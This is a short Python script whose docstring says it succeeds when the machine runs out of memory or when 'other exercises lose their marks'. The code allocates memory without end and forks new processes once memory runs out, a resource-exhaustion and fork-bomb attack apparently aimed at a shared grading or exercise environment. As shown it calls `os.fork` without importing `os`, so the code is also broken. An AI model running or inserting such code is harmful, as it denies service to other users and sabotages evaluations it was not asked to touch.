"""Takes memory until there is none.

Success: the machine runs out of memory, or other exercises lose their marks.
Runs: alone, always
"""

kept = []
while True:
    try:
        kept.append(bytearray(32 << 20))
    except MemoryError:
        if os.fork() == 0:
            kept = []
